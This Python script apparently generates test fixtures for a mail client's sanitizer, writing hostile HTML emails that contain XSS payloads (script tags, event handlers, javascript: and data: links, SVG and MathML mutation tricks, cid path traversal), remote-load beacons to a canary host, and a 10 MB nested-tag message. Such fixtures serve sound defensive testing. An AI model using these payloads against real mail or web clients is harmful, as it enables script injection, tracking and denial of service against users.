#!/usr/bin/env python3
"""corpus.py DIR CANARY — write the hostile HTML messages of t-81-web-hostile
into DIR (one .eml each, named by its number); CANARY is the host:port of
the test's canary HTTP server: anything that loads or runs makes a request
there, or sets parent.__pwned. Each message's visible text "marker N" shows
that it was rendered at all."""
import base64, os, sys

d, C = sys.argv[1], sys.argv[2]
run = lambda tag: "parent.__pwned='%s';top.__pwned='%s';new Image().src='http://%s/%s'" % (tag, tag, C, tag)

def html_msg(n, subject, html, extra_parts=None):
    head = ("From: Mallory <mallory@evil.test>\r\nTo: alice@example.test\r\n"
            "Subject: Hostile %d: %s\r\nMIME-Version: 1.0\r\n" % (n, subject))
    body = "<p>marker %d</p>\n%s" % (n, html)
    if not extra_parts:
        return head + "Content-Type: text/html; charset=utf-8\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n"
    b = "b0und4ry"
    out = head + 'Content-Type: multipart/related; boundary="%s"\r\n\r\n--%s\r\n' % (b, b)
    out += "Content-Type: text/html; charset=utf-8\r\n\r\n" + body.replace("\n", "\r\n") + "\r\n"
    for hdrs, payload in extra_parts:
        out += "--%s\r\n%s\r\n\r\n%s\r\n" % (b, hdrs, payload)
    return out + "--%s--\r\n" % b

msgs = []
msgs.append(("script tags", "<script>%s</script><SCRIPT SRC=http://%s/src.js></SCRIPT>"
             "<scr<script>ipt>%s</scr</script>ipt>" % (run("script"), C, run("split"))))
msgs.append(("event handlers", '<img src=x onerror="%s"><body onload="%s"><div onmouseover="%s">hover</div>'
             '<details open ontoggle="%s"></details><input autofocus onfocus="%s">'
             % (run("onerror"), run("onload"), run("over"), run("toggle"), run("focus"))))
msgs.append(("css url", '<div style="background:url(http://%s/styleattr);width:10px;height:10px">x</div>'
             '<style>body{background-image:url("http://%s/styletag")} @import url(http://%s/import.css);'
             '@font-face{font-family:f;src:url(http://%s/font)} p{font-family:f}</style>'
             '<div style="background:image-set(\'http://%s/imgset\' 1x)">y</div>' % (C, C, C, C, C)))
msgs.append(("meta refresh", '<meta http-equiv="refresh" content="0;url=http://%s/refresh">'
             '<meta http-equiv="refresh" content="0;url=javascript:%s">' % (C, run("metajs"))))
msgs.append(("svg script", '<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><script>%s</script>'
             '<image href="http://%s/svgimage"/><foreignObject><img src=x onerror="%s"></foreignObject></svg>'
             '<math><mtext><table><mglyph><style><img src=x onerror="%s"></style></mglyph></table></mtext></math>'
             % (run("svgload"), run("svgscript"), C, run("svgfo"), run("mxss"))))
msgs.append(("javascript links", '<a id="js1" href="javascript:%s">link one</a> '
             '<a id="js2" href=" jAvAsCrIpT:%s">link two</a> <a id="js3" href="data:text/html,<script>%s</script>">link three</a>'
             '<form action="http://%s/form"><button>send</button></form>' % (run("js1"), run("js2"), run("js3"), C)))
svg = base64.b64encode(('<svg xmlns="http://www.w3.org/2000/svg"><script>%s</script>'
                        '<image href="http://%s/cidsvg"/></svg>' % (run("cidsvg"), C)).encode()).decode()
msgs.append(("cid tricks", '<img src="cid:evil-svg"><img src="cid:../../../jmap/api/"><img src="cid:nothere">'
             '<iframe src="cid:page"></iframe><a href="cid:page">cid link</a>',
             [("Content-Type: image/svg+xml\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <evil-svg>", svg),
              ("Content-Type: text/html\r\nContent-ID: <page>", "<script>%s</script>" % run("cidpage"))]))
msgs.append(("remote loads", '<img src="http://%s/remote.png" alt="remote"><img src="//%s/proto-relative.png">'
             '<img srcset="http://%s/srcset.png 2x"><iframe src="http://%s/iframe"></iframe>'
             '<object data="http://%s/object"></object><embed src="http://%s/embed">'
             '<link rel="stylesheet" href="http://%s/link.css"><base href="http://%s/base/"><a href="rel">relative</a>'
             '<video poster="http://%s/poster"></video><table background="http://%s/tablebg"><tr><td>t</td></tr></table>'
             '<audio src="http://%s/audio" autoplay></audio>'
             % ((C,) * 11)))
# 10 MB of nested tags
nest = "<div><span><b><i>\n" * (10 * 1024 * 1024 // 19)
msgs.append(("ten megabytes of nested tags", nest + "<img src=x onerror=\"%s\">" % run("deep")))

for i, m in enumerate(msgs, 1):
    with open(os.path.join(d, "%02d.eml" % i), "w") as f:
        f.write(html_msg(i, *m))
print(len(msgs))
